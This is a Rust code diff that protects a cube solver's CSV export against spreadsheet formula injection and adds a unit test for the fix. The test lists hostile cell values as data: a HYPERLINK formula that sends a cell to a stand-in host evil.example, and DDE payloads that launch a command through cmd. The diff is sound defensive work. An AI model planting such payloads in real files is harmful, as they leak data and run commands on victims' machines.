@@ -125,13 +125,13 @@ impl<W: Write> ResultsWriter<W> {
             }
             Sink::Csv(csv) => csv.write_record([
                 line.index.to_string().as_str(),
-                &line.input,
+                &spreadsheet_safe(&line.input),
                 line.status.name(),
-                &line.solution,
+                &spreadsheet_safe(&line.solution),
                 &line.length.map(|l| l.to_string()).unwrap_or_default(),
                 if line.optimal { "true" } else { "false" },
-                line.error.as_deref().unwrap_or(""),
-                line.state_index.as_deref().unwrap_or(""),
+                &spreadsheet_safe(line.error.as_deref().unwrap_or("")),
+                &spreadsheet_safe(line.state_index.as_deref().unwrap_or("")),
             ])?,
             Sink::Parquet(p) => p.write(&crate::parquet::row(&line))?,
         }
@@ -165,6 +165,23 @@ impl<W: Write> ResultsWriter<W> {
         }
         self.flush()?;
         Ok(self.written)
+    }
+}
+
+/// The characters that make a spreadsheet read a cell as a formula when they begin it
+/// (OWASP's list for CSV injection: `=`, `+`, `-`, `@`, tab, carriage return).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell of the CSV export as a spreadsheet may open it: one that begins with a
+/// character of [`FORMULA_STARTS`] gets a `'` in front (a spreadsheet reads the cell as
+/// text), so a line or an error such as `=HYPERLINK(...)` is never run as a formula.
+/// Every other text is written as it is. (Solutions begin with a face letter; the inputs and
+/// errors are what others wrote.)
+fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) {
+        format!("'{text}").into()
+    } else {
+        text.into()
     }
 }
 
@@ -230,5 +247,58 @@ mod tests {
         let text = String::from_utf8(out).expect("utf-8");
         assert!(text.contains("\"R U,\"\"x\"\"\r\nF\""), "{text}");
         assert!(text.contains("\n2,\"R U\rF\",invalid,"), "{text:?}");
+    }
+
+    /// A cell a spreadsheet would run as a formula (OWASP's starts) comes out as text: a `'`
+    /// in front, inside the quoted cell; other cells are written as they are.
+    #[test]
+    fn csv_cells_that_begin_a_formula_are_neutralised() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let mut out = Vec::new();
+        let mut w = ResultsWriter::new(ResultsFormat::Csv, &mut out).expect("header");
+        for (i, line) in hostile.iter().enumerate() {
+            w.write(JobResult {
+                index: i as u64,
+                input: (*line).into(),
+                status: "invalid".into(),
+                error: format!("{line} is not a position"),
+                ..JobResult::default()
+            })
+            .expect("row");
+        }
+        w.write(JobResult {
+            index: 6,
+            input: "R U R' U'".into(),
+            status: "solved".into(),
+            solution: "U R U' R'".into(),
+            length: 4,
+            ..JobResult::default()
+        })
+        .expect("row");
+        w.finish().expect("flush");
+        let text = String::from_utf8(out.clone()).expect("utf-8");
+        assert!(
+            text.contains("0,'=HYPERLINK(") || text.contains("0,\"'=HYPERLINK("),
+            "{text}"
+        );
+        let mut reader = csv::ReaderBuilder::new().from_reader(out.as_slice());
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+        for (row, line) in rows.iter().zip(hostile) {
+            assert_eq!(&row[1], format!("'{line}"), "input");
+            assert_eq!(&row[6], format!("'{line} is not a position"), "error");
+            assert!(
+                !row.iter().any(|cell| cell.starts_with(FORMULA_STARTS)),
+                "{row:?}"
+            );
+        }
+        assert_eq!(&rows[6][1], "R U R' U'");
+        assert_eq!(&rows[6][3], "U R U' R'");
     }
 }
